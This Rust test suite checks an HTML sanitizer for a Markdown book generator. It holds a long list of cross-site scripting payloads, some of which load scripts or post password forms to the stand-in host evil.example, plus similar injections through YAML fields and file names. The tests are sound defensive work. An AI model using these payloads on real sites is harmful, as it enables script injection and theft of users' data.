//! Nothing in a chapter can run on a reader's device, load from elsewhere or break out of its place.

use snapbox::str;

use crate::support::{Page, book, danger, dangers, same, themed_book};

/// Raw HTML and Markdown that try to run something, load something or break the page.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' alt=\"a\nonerror=alert(1)\">",
    "<img alt=\"`><script>alert(1)</script>\">",
    "<img src=\"https://evil.example/dot.gif\" alt=\"x\">",
    "<img srcset=\"https://evil.example/dot.gif 1x\" src=\"x.png\" alt=\"x\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=\"x\">",
    "<b onclick=alert(1)>x</b>",
    "<b ONMOUSEOVER\n=\n'alert(1)'>x</b>",
    "<b style=\"background:url(javascript:alert(1))\">x</b>",
    "<b title=\"a\" onclick=\"alert(1)\" title='\"><script>alert(1)</script>'>x</b>",
    "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
    "<b title=x\"onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" \tJaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"x\" href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a\nhref='javascript:alert(1)'\n>x</a>",
    "<a href=\"page.md\" ping=\"https://evil.example\">x</a>",
    "[x](javascript:alert(1))",
    "[x](<JaVaScRiPt:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](view-source:javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.gif)",
    "![x](//evil.example/x.gif)",
    "![a\" onerror=\"alert(1)](x.png)",
    "![x](x.png \"a\\\" onload=\\\"alert(1)\")",
    "[x](page.md \"a\\\" onclick=\\\"alert(1)\")",
    "[x](page.md\"onclick=alert(1))",
    "[x](<page.md\" onclick=\"alert(1)>)",
    "https://example.com/\"onmouseover=\"alert(1)",
    "www.example.com/<script>alert(1)</script>",
    "<https://example.com/\"onclick=\"alert(1)>",
    "# x {#a\"onclick=\"alert(1)}",
    "## x {#\"><script>alert(1)</script>}",
    "## x {.a\"onclick=alert(1)}",
    "## x {onclick=alert(1)}",
    "## <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)> heading",
    "## `<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html\n<script>alert(1)</script></code></pre><script>alert(1)</script>\n```",
    "```{.a onclick=alert(1)}\ncode\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: note",
    "| a |\n| - |\n| <script>alert(1)</script> |\n| <b onclick=x>x</b> |",
    "Term\n: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!\"><script>alert(1)</script>]\n> x",
    "- [ ] <script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0; url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe src=//evil.example srcdoc='<script>alert(1)</script>' onload=alert(1)>x</iframe>",
    "<iframe title=\"<script>alert(1)</script>\" src=\"https://evil.example/?a=&quot; onclick=&quot;alert(1)\"></iframe>",
    "<iframe src=\"java\nscript:alert(1)\"></iframe>",
    "<iframe src=\"https://evil.example\"><script>alert(1)</script>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=\"https://evil.example\"><input name=p type=password><button formaction=x>y</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title>x</title><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><source src=x></video><audio src=x>",
    "<video src=https://evil.example/x.mp4 autoplay poster=https://evil.example/x.png></video>",
    "<video poster=//evil.example/x.png src=x.png><source src=//evil.example/x.mp4 onerror=alert(1)></video>",
    "<video src=x.png><track src=https://evil.example/x.vtt><script>alert(1)</script><img src=x onerror=alert(1)></video>",
    "text <video src=x.png><script>alert(1)</script> text",
    "<audio src=\"javascript:alert(1)\"></audio><video><source src=data:video/mp4;base64,AA></video>",
    "![x](https://youtube.com/embed/\"onclick=\"alert(1))",
    "![<script>alert(1)</script>](https://youtu.be/x) ![x](javascript:x.mp4) ![\"onplay=\"alert(1)](x.mp4)",
    "<portal src=x></portal><frameset><frame src=x></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<my-element onclick=alert(1) is=x>x</my-element>",
    "</main></body></html>",
    "</div></div></div></main><main><footer>",
    "</section></main></body><body onload=alert(1)>",
    "<div><div><div>",
    "<table><tr><td>",
    "<table><tr><td><p></table></table>",
    "<ul><li><b><i>",
    "<!-- open",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><script>alert(1)</script>",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php echo 1 ?><?xml version=\"1.0\"?>",
    "<!DOCTYPE html><html><head></head><body>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><noframes><script>alert(1)</script>",
    "<a id=\"x\" name=\"y\" href=\"#x\" id=\"z\">x</a>",
    "<b id=pb-main class=\"skip\" popover tabindex=1>x</b>",
    "<b id=\"\u{10fffd}C0\u{10fffd}\" title=\"\u{10fffd}C0\u{10fffd}<img src=x onerror=alert(1)>\">x</b>",
    "<b title='\u{10fffd}I0\u{10fffd}' class=\"\u{10fffd}L0\u{10fffd}\">x</b> [x](page.md) ![x](x.png)",
    "{{ site.title }} {% include \"x\" %} {# x #} {{ \"</script>\" | safe }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
];

#[test]
fn no_chapter_can_run_load_or_break_anything() {
    let mut found = Vec::new();
    for hostile in HOSTILE {
        let text = format!("# Title\n\n> [!NOTE]\n> x\n\n{hostile}\n\nBehind.\n");
        let start = format!("{hostile}\n\nBehind.\n");
        let files =
            [("index.md", "# Home\n"), ("a.md", &*text), ("start.md", &*start), ("page.md", "# P\n"), ("x.png", "")];
        let book = themed_book(files);
        for address in ["a.html", "start.html", "print.html"] {
            let dangers = dangers(&book.page(address));
            found.extend(dangers.into_iter().map(|danger| format!("{address} of {hostile:?}: {danger}")));
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn unsafe_html_is_never_removed_silently() {
    // What a browser would make of it without us. In Markdown, an address in angle brackets is a link.
    let runs = |text: &&&str| {
        let page = Page::parse(text);
        text.starts_with('<') && !text.starts_with("<http") && page.elements.iter().any(|e| danger(&page, e).is_some())
    };
    let is_silent = |text: &&&str| {
        let book = book([("index.md", format!("# Home\n\n{text}\n").as_str())]);
        let told = ["removed-html", "unsafe-link", "missing-image"];
        let is_told = book.messages().iter().any(|message| told.iter().any(|code| message.starts_with(code)));
        let is_shown = ["&lt;", "class=\"embed"].iter().any(|sign| book.body("index.html").contains(sign));
        // Nobody sees comments, and the look of text is up to the theme.
        !is_told && !is_shown && !text.starts_with("<!--") && !text.contains("style=\"") && !text.starts_with("<style>")
    };
    let dangerous: Vec<_> = HOSTILE.iter().filter(runs).collect();
    assert!(dangerous.len() > 50, "{}", dangerous.len());
    assert_eq!(dangerous.into_iter().filter(is_silent).collect::<Vec<_>>(), [&""; 0]);
}

#[test]
fn front_matter_and_configuration_are_text_in_every_field() {
    const HTML: &str = r#"</title></script>'"><script>alert(1)</script><b onclick=alert(1)>{{ site.title }}"#;
    let yaml = serde_json::to_string(HTML).unwrap();
    let chapter = format!(
        "---\ntitle: {yaml}\ndescription: {yaml}\nowner: {yaml}\naudience: [{yaml}]\nkeywords: [{yaml}]\n\
         extra: {{a: {yaml}}}\n{yaml}: {yaml}\nkind: plan\nchecked: 2026-01-31\nreview: 1 year\naliases: [old]\n---\nText.\n"
    );
    let configuration = format!(
        "title: {yaml}\norganisation: {yaml}\npromise: {yaml}\nlogo: \"x\\\" onerror=\\\"alert(1).png\"\n\
         base_url: \"https://example.com/\\\"><script>alert(1)</script>\"\n\
         links:\n  - label: {yaml}\n    url: 'https://example.com/\"onclick=\"alert(1)\"><script>'\n"
    );
    let book = themed_book([
        ("index.md", &*chapter.replace("aliases: [old]\n", "")),
        ("part/a.md", &*chapter),
        ("playbook.yaml", &*configuration),
        ("x\" onerror=\"alert(1).png", ""),
    ]);
    for address in ["index.html", "part/a.html", "part/index.html", "a-z.html", "print.html", "404.html"] {
        let page = book.page(address);
        let dangers: Vec<_> = dangers(&page).into_iter().filter(|danger| danger != "3 <link>").collect();
        assert_eq!(dangers, [""; 0], "{address}:\n{page}");
    }
    let redirect = Page::parse(&book.page("old.html"));
    assert!(redirect.all("script").next().is_none() && redirect.all("b").next().is_none());
}

#[test]
fn names_of_files_are_text() {
    let book = themed_book([
        ("index.md", "# Home\n\n![x](<\"><script>alert(1)<.png>) [x](<\"><script>alert(1)<.pdf>)\n"),
        ("\"><script>alert(1)<.png", ""),
        ("\"><script>alert(1)<.pdf", ""),
        ("\"><img src=x onerror=alert(1)>/a.md", "Text.\n"),
        ("\"><script>alert(1)<.md", "Text.\n"),
    ]);
    for address in book.paths().into_iter().filter(|path| path.ends_with(".html")) {
        let is_ours = |danger: &String| ["<noscript", "<form", "<input"].iter().any(|tag| danger.starts_with(tag));
        let found = dangers(&book.page(&address)).into_iter();
        let found: Vec<_> = found.filter(|danger| address != "search.html" || !is_ours(danger)).collect();
        assert_eq!(found, [""; 0], "{address}");
    }
    let site = book.pages();
    assert_eq!(crate::support::broken_references(&site), [""; 0]);
}

#[test]
fn what_is_allowed_stays() {
    let text = "# Home\n\n<details open name=\"x\"><summary>S</summary>Inside</details>\n\n\
                <p class=\"big\" id=\"own\" lang=\"fr\" dir=\"rtl\" title=\"T\">P <b>b</b> <kbd>k</kbd> <mark>m</mark><br>n</p>\n\n\
                <table><caption>C</caption><tr><th scope=\"col\" colspan=\"2\">H</th></tr></table>\n\n\
                <ol start=\"3\" reversed><li value=\"9\">x</li></ol>\n\n\
                H<sub>2</sub>O <abbr title=\"A\">a</abbr> <time datetime=\"2026-01-31\">d</time> <ruby>a<rt>b</rt></ruby>\n\n\
                <figure><img src=\"d.png\" alt=\"D\"><figcaption>F</figcaption></figure>\n\n\
                <a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\">out</a> <a href=\"#own\">in</a>\n";
    let book = book([("index.md", text), ("d.png", "")]);
    assert_eq!(book.messages(), [""; 0]);
    same(
        &book.body("index.html"),
        str![[r##"
<details open="" name="x"><summary>S</summary>Inside</details>
<p class="big" id="own" lang="fr" dir="rtl" title="T">P <b>b</b> <kbd>k</kbd> <mark>m</mark><br>n</p>
<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table><caption>C</caption><tbody><tr><th scope="col" colspan="2">H</th></tr></tbody></table></div>
<ol start="3" reversed=""><li value="9">x</li></ol>
<p>H<sub>2</sub>O <abbr title="A">a</abbr> <time datetime="2026-01-31">d</time> <ruby>a<rt>b</rt></ruby></p>
<figure><img src="d.png" width="4" height="3" alt="D" decoding="async"><figcaption>F</figcaption></figure>
<p><a class="external" rel="noopener" href="https://example.com/?a=1&amp;b=2">out</a> <a href="#own">in</a></p>

"##]],
    );
}

#[test]
fn an_open_tag_ends_with_its_chapter() {
    let body = |text: &str| book([("index.md", format!("# Home\n\n{text}\n").as_str())]).body("index.html");
    same(
        &body("<div><b>open\n\nMore."),
        str![[r#"
<div><b>open
<p>More.</p>
</b></div>
"#]],
    );
    same(
        &body("</div></main>text"),
        str![[r#"
text

"#]],
    );
    same(
        &body("<table><tr><td>cell\n\nMore."),
        str![[r#"
<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table><tbody><tr><td>cell
<p>More.</p>
</td></tr></tbody></table></div>
"#]],
    );
}

#[test]
fn a_comment_hides_its_text_and_nothing_else() {
    let body = |text: &str| book([("index.md", format!("# Home\n\n{text}\n").as_str())]).body("index.html");
    same(
        &body("Before <!-- hidden <b>x</b> --> after.\n\n<!--\nhidden\n\nblock\n-->\n\nEnd."),
        str![[r#"
<p>Before  after.</p>

<p>End.</p>

"#]],
    );
}

/// The marker character, in every file that goes into a page.
#[test]
fn no_file_can_write_a_marker() {
    let (mark, escaped) = ("\u{10fffd}", "\\U0010FFFD");
    let roles =
        format!("desk{mark}:\n  name: \"Desk{escaped}P{escaped}\"\n  person: J{mark}o\n\"d{escaped}\":\n  person: K\n");
    let feedback = format!("date,plan,channel,count,reason\n2026-01-01,Late{mark}menu1{mark},{mark}P{mark},3,{mark}\n");
    let chapter = format!(
        "---\nkind: plan\nextra: {{a: \"{escaped}\"}}\nowner: \"{escaped}\"\n---\n# Late{mark}menu1{mark}\n\nText.\n"
    );
    let book = themed_book([
        ("index.md", "# Home\n"),
        ("late.md", &chapter),
        ("na\u{10fffd}menu1\u{10fffd}me.md", "Text.\n"),
        ("fol\u{10fffd}menu1\u{10fffd}der/a.md", "# A\n"),
        ("roles.yaml", &roles),
        ("data/feedback.csv", &feedback),
        ("playbook.yaml", &format!("title: \"T{escaped}\"\npromise: {mark}\n")),
        ("words.yaml", &format!("page:\n  owner: \"O{mark}{escaped}\"\n")),
        ("synonyms.yaml", &format!("a{mark}: b{mark}\n")),
    ]);
    for (path, bytes) in book.pages() {
        assert!(!String::from_utf8(bytes).unwrap().contains(mark), "a mark is in {path}");
    }
}
